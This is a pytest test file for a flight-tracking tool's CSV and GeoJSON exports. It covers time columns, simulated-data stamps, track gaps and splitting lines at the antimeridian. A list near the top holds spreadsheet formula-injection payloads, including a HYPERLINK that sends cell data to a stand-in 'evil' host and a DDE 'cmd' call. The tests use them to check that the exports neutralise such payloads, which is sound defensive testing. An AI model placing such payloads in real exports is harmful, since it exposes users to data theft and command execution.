from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from flighttrace.accounting import Quarantined
from flighttrace.match.model import Flight
from flighttrace.report.ends import likeliest
from flighttrace.report.exports import (
    csv_text,
    cut_at_antimeridian,
    flights_csv,
    flights_geojson,
    legs_csv,
    legs_geojson,
    quarantine_csv,
    safe_cell,
)

from .builders import flight, ingested, leg, one_ended, source

ZONES = {"Israel": "Asia/Jerusalem", "Azerbaijan": "Asia/Baku"}
FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=cmd|'/C calc'!A0",
    "  =1",
    "＝1+1",
    "－2",
]


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_text_cell_is_a_formula(payload: str) -> None:
    cell = safe_cell(payload)
    assert isinstance(cell, str)
    assert cell.startswith("'")
    (row,) = rows_of(legs_csv([leg(flight(callsign=payload))], ingested(), ZONES))
    assert row["callsigns"].startswith("'")


def test_every_end_has_its_likeliest_three_beside_the_airport() -> None:
    flown = flight(grade="D")
    (row,) = rows_of(legs_csv([leg(flown)], ingested(), ZONES))
    assert row["arrival_airport"] == "UBBB"
    assert row["arrival_grade"] == "D"
    assert row["arrival_likeliest"] == "UBBB 90%; UBBG 7%; UNKNOWN 3%" == "; ".join(likeliest(flown.arrival))
    assert row["departure_likeliest"].startswith("LLOV 90%; LLER 7%")


@given(st.text())
def test_a_cell_never_starts_a_formula_nor_breaks_its_row(text: str) -> None:
    out = csv_text([{"a": text, "b": 1}], ["a", "b"], simulated=False)
    ((first, second),) = list(csv.reader(io.StringIO(out)))[1:]
    assert not first.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert second == "1"
    assert out.count("\n") == 2


def test_numbers_stay_numbers_also_negative_ones() -> None:
    text = csv_text([{"lon_deg": -70.5, "note": "-70.5"}], ["lon_deg", "note"], simulated=False)
    assert text == '"lon_deg","note"\n-70.5,"\'-70.5"\n'


def test_a_leg_shows_utc_and_local_times_side_by_side() -> None:
    (row,) = rows_of(legs_csv([leg()], ingested(), ZONES))
    assert row["departure_time_utc"] == "2031-09-25T12:00:00.000Z"
    assert row["departure_time_local_Asia/Jerusalem"] == "2031-09-25T15:00:00+03:00"
    assert row["departure_time_local_Asia/Baku"] == "2031-09-25T16:00:00+04:00"


def test_kinds_of_rows_are_told_apart() -> None:
    legs = [leg(flight("a")), leg(flight("b"), possible=True)]
    rows = rows_of(legs_csv(legs, ingested(), ZONES, one_ended=[one_ended(flight("c", departs=None))]))
    assert [r["row_kind"] for r in rows] == ["leg", "possible leg", "one-ended sighting"]
    assert rows[2]["departure_airport"] == "UNKNOWN"


def test_an_address_that_looks_like_a_number_is_quoted_text() -> None:
    assert '"4e1234"' in flights_csv([flight(icao24="4e1234")], ingested())


@pytest.mark.parametrize("legs", [[], [leg(flight(simulated=True))]])
def test_simulated_csv_is_stamped_even_where_it_has_no_rows(legs: list[object]) -> None:
    text = legs_csv(legs, ingested([source(simulated=True)]), ZONES)  # type: ignore[arg-type]
    assert text.splitlines()[0].endswith(',"simulated: not evidence"')
    assert "not evidence" not in legs_csv([leg()], ingested(), ZONES)


def test_quarantine_is_sorted_and_has_no_folder() -> None:
    found = [Quarantined("/home/canary/a.csv", n, "lat", "out of range", "=1") for n in (9, 2)]
    rows = rows_of(quarantine_csv(found, simulated=False))
    assert [(r["file"], r["line"], r["value"]) for r in rows] == [("a.csv", "2", "'=1"), ("a.csv", "9", "'=1")]


def lines_of(flown: Flight) -> list[dict[str, object]]:
    features = flights_geojson([flown], ingested())["features"]
    return [f for f in features if f["geometry"]["type"] != "Point"]  # type: ignore[attr-defined]


def test_a_gap_is_a_feature_of_its_own() -> None:
    parts = [line["properties"] for line in lines_of(flight(gap_after=60))]
    assert [p["part"] for p in parts] == ["received", "gap", "received"]  # type: ignore[index]
    assert parts[1]["duration_s"] == 3060.0  # type: ignore[index]
    assert parts[1]["positions"] == 0  # type: ignore[index]
    assert parts[0]["positions"] + parts[2]["positions"] == 150  # type: ignore[index]


def test_longitude_comes_first_and_rejected_positions_are_left_out() -> None:
    flown = flight()
    rejected = flown.track.copy()
    rejected.loc[10, "rejected_because"] = "null island"
    (line,) = lines_of(Flight(**{**flown.__dict__, "track": rejected}))
    coordinates = line["geometry"]["coordinates"]  # type: ignore[index]
    assert coordinates[0] == [34.94, 29.94]
    assert len(coordinates) == 149


def test_a_line_is_cut_at_the_antimeridian() -> None:
    parts = cut_at_antimeridian(np.array([10.0, 20.0, 30.0]), np.array([170.0, -170.0, -160.0]))
    assert parts == [
        [[170.0, 10.0], [180.0, 15.0]],
        [[-180.0, 15.0], [-170.0, 20.0], [-160.0, 30.0]],
    ]


@given(st.lists(st.tuples(st.floats(-89, 89), st.floats(-180, 180)), min_size=2, max_size=30))
def test_no_part_of_a_line_crosses_the_antimeridian(points: list[tuple[float, float]]) -> None:
    lat, lon = np.array(points).T
    for part in cut_at_antimeridian(lat, lon):
        steps = np.abs(np.diff([p[0] for p in part]))
        assert (steps <= 180.000001).all()
        assert all(abs(p[0]) <= 180 and abs(p[1]) <= 90 for p in part)


def test_geojson_carries_the_stamp_and_is_strict_json() -> None:
    made = legs_geojson([leg(flight(simulated=True))], [one_ended()], ingested(), claims_of={"leg-f1": ("c",)})
    json.dumps(made, allow_nan=False)
    assert made["flighttrace"]["stamp"] == "simulated: not evidence"  # type: ignore[index]
    assert all(f["properties"]["stamp"] == "simulated: not evidence" for f in made["features"])  # type: ignore[attr-defined]
    assert made["features"][0]["properties"]["claims"] == ["c"]  # type: ignore[index]
    assert "stamp" not in legs_geojson([leg()], [], ingested())["features"][0]["properties"]  # type: ignore[index]


def test_masked_positions_are_counted_by_reason() -> None:
    (row,) = rows_of(flights_csv([flight()], ingested()))
    assert row["rejected_count"] == "4"
    assert row["rejected_by_reason"] == (
        "1 impossible jump: could not be reached at 1,000 kt; 3 stale: the same position again while time goes on"
    )
    (clean,) = rows_of(flights_csv([replace(flight(), rejected_count=0, rejected_by_reason=())], ingested()))
    assert (clean["rejected_count"], clean["rejected_by_reason"]) == ("0", "")
